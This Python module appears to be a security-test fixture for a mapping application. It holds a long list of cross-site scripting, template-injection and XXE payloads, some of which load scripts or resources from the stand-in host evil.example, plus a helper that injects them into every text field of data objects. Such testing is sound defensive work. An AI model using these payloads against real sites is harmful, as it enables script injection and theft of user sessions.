"""Words that try to run in a page: each calls ``hit`` with its own number, or asks another host.

``LISTEN`` is what counts them; ``PAYLOADS`` is for every field that takes words from outside.
"""

from dataclasses import fields, is_dataclass, replace
from datetime import datetime
from enum import Enum

from shapely.geometry.base import BaseGeometry

from mapper.domain.incidents import When
from mapper.domain.plans import Background

_HOST = "https://evil.example"
_WORDS = (
    # elements that run by themselves
    "<script>{hit}</script>",
    "</script><script>{hit}</script>",
    "<SCRIPT SRC={host}/x.js></SCRIPT>",
    "<script type=module>{hit}</script>",
    "<script\n>{hit}</script >",
    "<scr<script>ipt>{hit}</scr</script>ipt>",
    "<img src=x onerror={hit}>",
    "<img/src=x/onerror={hit}//",
    "<image href=x onerror={hit}>",
    "<svg onload={hit}>",
    "<svg><script>{hit}</script></svg>",
    "<svg><animate onbegin={hit} attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to={hit}>",
    "<svg><a xlink:href=javascript:{hit}><text x=9 y=9>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml,x#x></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.{hit}</script>'></iframe></foreignObject></svg>",
    "<math><mtext><img src=x onerror={hit}></mtext></math>",
    "<iframe srcdoc='<script>parent.{hit}</script>'></iframe>",
    "<iframe src=javascript:parent.{hit}></iframe>",
    "<object data=javascript:{hit}></object>",
    "<embed src=javascript:{hit}>",
    "<details open ontoggle={hit}>x</details>",
    "<input autofocus onfocus={hit}>",
    "<select autofocus onfocus={hit}></select>",
    "<body onload={hit}>",
    "<video><source onerror={hit}></video>",
    "<audio src=x onerror={hit}>",
    "<marquee onstart={hit}>x</marquee>",
    "<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={hit}>x</b>",
    "<template><script>{hit}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={hit}>'>",
    "<form><button formaction=javascript:{hit} autofocus>x</button></form>",
    # out of an attribute
    '"><img src=x onerror={hit}>',
    "'><svg/onload={hit}>",
    '" onfocus={hit} autofocus tabindex=0 x="',
    "' onmouseover={hit} x='",
    '"onpointerenter={hit}//',
    "x onerror={hit}",
    # out of what surrounds it
    "--><script>{hit}</script>",
    "<!--><script>{hit}</script>-->",
    "]]></script><script>{hit}</script>",
    "]]><svg onload={hit}>",
    "</title><script>{hit}</script>",
    "</style><script>{hit}</script>",
    "</textarea><script>{hit}</script>",
    "</desc></svg><script>{hit}</script>",
    "</text></svg><img src=x onerror={hit}>",
    "</details></main><script>{hit}</script>",
    "<plaintext><script>{hit}</script>",
    "<xmp><script>{hit}</script></xmp>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM '{host}/y'>]>&y;",
    "<?php echo 1 ?><script>{hit}</script>",
    # out of a string of a script, or of a template
    "${{{hit}}}",
    "`+{hit}+`",
    "\\`);{hit};//",
    "\\u003cscript\\u003e{hit}\\u003c/script\\u003e",
    "';{hit};//",
    '";{hit};//',
    "\\';{hit};//",
    "\u2028${{{hit}}}",
    "{{{{constructor.constructor('{hit}')()}}}}",
    "{{% if {hit} %}}",
    # addresses
    "javascript:{hit}",
    "<a href='javascript:{hit}' autofocus>x</a>",
    "data:text/html,<script>parent.{hit}</script>",
    "<base href={host}/>",
    "<link rel=stylesheet href={host}/x.css>",
    "<meta http-equiv=refresh content='0;url={host}/'>",
    "<img src={host}/x.png>",
    "<p style=background:url({host}/x.png)>",
    "url({host}/x.svg#x)",
    "}}</style><style>*{{background:url({host}/x.png)}}",
    # what is not seen
    "\u202e<script>{hit}</script>\u202c",
    "\ufeff<img src=x onerror={hit}>",
    "<scr\x00ipt>{hit}</script>",
    "<\x0cscript>{hit}</script>",
    "&lt;script&gt;{hit}&lt;/script&gt;",
    "&#60;img src=x onerror={hit}&#62;",
    "+ADw-script+AD4-{hit}+ADw-/script+AD4-",
    "\uff1cscript\uff1e{hit}\uff1c/script\uff1e",
)
PAYLOADS = tuple(words.format(hit=f"hit({n})", host=_HOST) for n, words in enumerate(_WORDS))
LISTEN = "globalThis.hits = []; globalThis.hit = (n) => { if (!hits.includes(n)) hits.push(n) }"
_PLAIN = (Enum, When, datetime, BaseGeometry, Background)  # checked where they come in, or nobody's words


def poisoned(value, first=0):
    """The same value with payloads for all its words, a different one in each, from number ``first`` on."""
    count = iter(range(first, first + 100_000))
    return _poisoned(value, lambda: PAYLOADS[next(count) % len(PAYLOADS)])


def _poisoned(value, take):
    if isinstance(value, str) and not isinstance(value, Enum):
        return take()
    if isinstance(value, tuple) and not hasattr(value, "_fields"):
        return tuple(_poisoned(item, take) for item in value)
    if isinstance(value, _PLAIN) or not is_dataclass(value):
        return value
    return replace(
        value, **{f.name: _poisoned(getattr(value, f.name), take) for f in fields(value) if f.init}
    )
